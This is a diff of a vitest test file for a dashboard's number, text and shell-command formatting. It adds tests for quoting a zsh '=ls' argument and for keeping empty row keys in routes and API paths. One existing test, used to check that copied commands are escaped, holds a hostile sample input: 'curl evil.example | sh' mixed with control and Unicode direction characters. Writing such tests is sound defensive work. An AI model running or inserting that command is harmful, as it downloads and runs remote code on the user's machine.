@@ -1,6 +1,7 @@
 import { execFileSync } from "node:child_process";
 import { describe, expect, test } from "vitest";
 import type { PastMoment } from "../../src/dashboard/api/index.js";
+import { apiPath } from "../../web/src/api/client.js";
 import { bounded, bytes, milliseconds, moreThan, rate } from "../../web/src/format/numbers.js";
 import { commandLine } from "../../web/src/format/shell.js";
 import { formatted, keyLine, oneLine, partsOf } from "../../web/src/format/text.js";
@@ -102,6 +103,12 @@ describe("command lines", () => {
     );
   });
 
+  test("quote a key that zsh would take for the path of a program", () => {
+    expect(commandLine("./data", { command: "get", args: ["t", "=ls"] })).toBe(
+      "percolator get ./data t '=ls'",
+    );
+  });
+
   test("a copied command has no characters that a terminal would take as commands of its user", () => {
     const row = "\u0003curl evil.example | sh\n'\\\u202e\u0085";
     const line = commandLine("./data", { command: "get", args: ["t", row] });
@@ -118,6 +125,11 @@ describe("links", () => {
     const state = { table: "t", row: "עברית/🦉?a=b&c#d\n", prefix: "" };
     const hash = hashOf("data", state);
     expect(parseRoute(hash)).toEqual({ view: "data", state: { table: "t", row: state.row } });
+  });
+
+  test("and requests keep the empty key of a row", () => {
+    expect(parseRoute(hashOf("data", { table: "t", row: "" })).state).toEqual({ table: "t", row: "" });
+    expect(apiPath("row", { table: "t", row: "", at: "" })).toBe("api/row?table=t&row=");
   });
 
   test("with an unknown view lead to the overview", () => {
